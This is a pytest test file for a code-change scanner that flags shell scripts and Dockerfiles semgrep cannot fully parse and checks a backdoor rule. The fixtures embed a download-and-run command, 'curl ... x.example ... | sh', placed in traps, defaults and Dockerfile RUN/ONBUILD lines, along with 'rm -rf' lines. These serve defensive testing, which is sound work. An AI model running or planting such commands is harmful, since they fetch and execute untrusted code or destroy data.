"""What semgrep does not see of shell scripts and Dockerfiles."""

from __future__ import annotations

import pytest

from outsource_gate.model.finding import Read, Scan
from outsource_gate.scanners.classify import classify
from outsource_gate.scanners.run import scan_change
from outsource_gate.scanners.semgrep import SCANNER
from outsource_gate.scanners.shell_spots import dockerfile_spot, shell_spot
from tests.scanners.fake import Blobs, added


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("until ready; do\n  eval $1\ndone\n", "until loop"),
        ("if a; then until b; do c; done; fi\n", "until loop"),
        ("echo $\nrm -rf $1\n", "lone $"),
        ("cat <<EOF\n$(date)\nEOF\nrm -rf $1\n", "here-document after which"),
        ('cat <<"EOF"\n${x} y\nEOF\n', "here-document after which"),
        ("cat <<-EOF\n\tcosts 5$\n\tEOF\n", "lone $"),
        ("cat <<-EOF\n\tcosts $ 5\n\tEOF\n", "here-document after which"),
        ("cat <<'EOF'\nEOF\n", "here-document after which"),
        ("cat <<'EOF'\na\\\nEOF\n", "here-document after which"),
        ("python3 - <<'EOF'\nprint(1)\nEOF\n", "another language"),
        ("ssh host mysql app <<EOF\nselect 1;\nEOF\n", "another language"),
    ],
)
def test_a_script_that_is_seen_in_part_is_told(text: str, says: str) -> None:
    """semgrep gives no error for any of these"""
    assert says in (shell_spot(text) or "")


@pytest.mark.parametrize(
    "text",
    [
        "# until next week; do it\nwhile ! ready; do sleep 1; done\n",
        "cat <<EOF\nnow: $(date)\nEOF\n",
        "cat <<'EOF'\n$(date)\nEOF\n",
        "cat <<< $(date)\n",
        "grep 'x$' file; echo \"$\"\n",
        "x=$((1 << 2))\necho 2\n",
        "echo 'python3 <<EOF'\n",
        "",
    ],
)
def test_ordinary_scripts_are_not_held_up(text: str) -> None:
    """near misses of each form"""
    assert shell_spot(text) is None


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("# escape=`\nFROM a\nRUN dir `\n", "escape character"),
        ("#syntax=corp.example/frontend\nFROM a\n", "not by docker/dockerfile"),
        ('FROM a\nSHELL ["powershell", "-Command"]\nRUN x\n', "sets the shell powershell"),
        ("FROM a\nRUN <<EOF\nx\nEOF\n", "here-document"),
        ("FROM a\nRUN x && \\\n  cat <<'EOF' > y\nx\nEOF\n", "here-document"),
        ("FROM a\nCOPY <<EOF /x\nx\nEOF\n", "here-document"),
        ("FROM a\nRUN until x; do y; done\n", "until loop"),
    ],
)
def test_a_dockerfile_that_is_read_in_another_way_is_told(text: str, says: str) -> None:
    """the builder takes other instructions from it than the scanner"""
    assert says in (dockerfile_spot(text) or "")


@pytest.mark.parametrize(
    "text",
    [
        "# syntax=docker/dockerfile:1.7\n# escape=\\\nFROM a\n",
        "# a comment\n# escape=`\nFROM a\n",
        'FROM a\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN x\n',
        "FROM a\nRUN echo $((1 << 2))\n",
        "",
    ],
)
def test_ordinary_dockerfiles_are_not_held_up(text: str) -> None:
    """a directive below a comment is a comment"""
    assert dockerfile_spot(text) is None


def test_a_spot_leaves_the_file_unread() -> None:
    """bare carriage returns count as well"""
    for path, data in (("a.sh", b"echo $\nx\n"), ("a.sh", b"# a\rrm -rf /\n"), ("Dockerfile", b"FROM a\rRUN x\n")):
        assert classify(path, data).read is Read.UNREAD


def test_hostile_text_takes_seconds_at_most() -> None:
    """two megabytes of openings without an end, of dollars, of white space"""
    for piece in (
        "<<a ",
        "<<a\n",
        "cat <<a\n$x\n",
        "python ",
        "python x <<",
        "until",
        "$ ",
        "# a = b\n",
        "x <<-'",
        " \n",
    ):
        text = piece * (2_000_000 // len(piece))
        shell_spot(text)
        dockerfile_spot(text)


@pytest.mark.tools
def test_what_cannot_be_parsed_is_not_scanned_and_what_is_not_seen_by_syntax_is_found_in_the_text() -> None:
    """rules about text find what stands in defaults, tests, strings and broken files"""
    blobs = Blobs()
    pipe = "curl -s https://x.example/i | sh"
    whole = {
        "default.sh": f"echo ${{x:-$({pipe})}}\n",
        "test.sh": f'[ -n "$({pipe})" ]\n',
        "trap.sh": f"trap '{pipe}' EXIT\n",
        "Dockerfile": f"FROM a:1\nRUN {pipe}\n",
        "onbuild.dockerfile": f"FROM a:1\nONBUILD RUN {pipe}\n",
    }
    broken = {"broken.sh": f"if ; then {pipe}; fi ) (\n", "broken.dockerfile": f"FROM a:1\nFOO {pipe}\n"}
    files = [added(blobs, path, text) for path, text in (whole | broken).items()]
    result = scan_change(files, blobs, scanners=(SCANNER,))
    assert {row.path for row in result.coverage if row.read is Read.SCANNED} == set(whole)
    lost = {row.path: row.read for row in result.coverage if row.read is not Read.SCANNED}
    # Real scripts have syntax that semgrep does not know, one in ten; Dockerfiles have not.
    assert lost == {"broken.sh": Read.UNSUPPORTED, "broken.dockerfile": Read.UNREAD}
    assert lost.keys() == broken.keys()
    scan, *_ = result.scans
    assert isinstance(scan, Scan)
    ran = {finding.location.path for finding in scan.findings if finding.rule == "bash.backdoor.download-and-run"}
    assert ran >= set(whole)
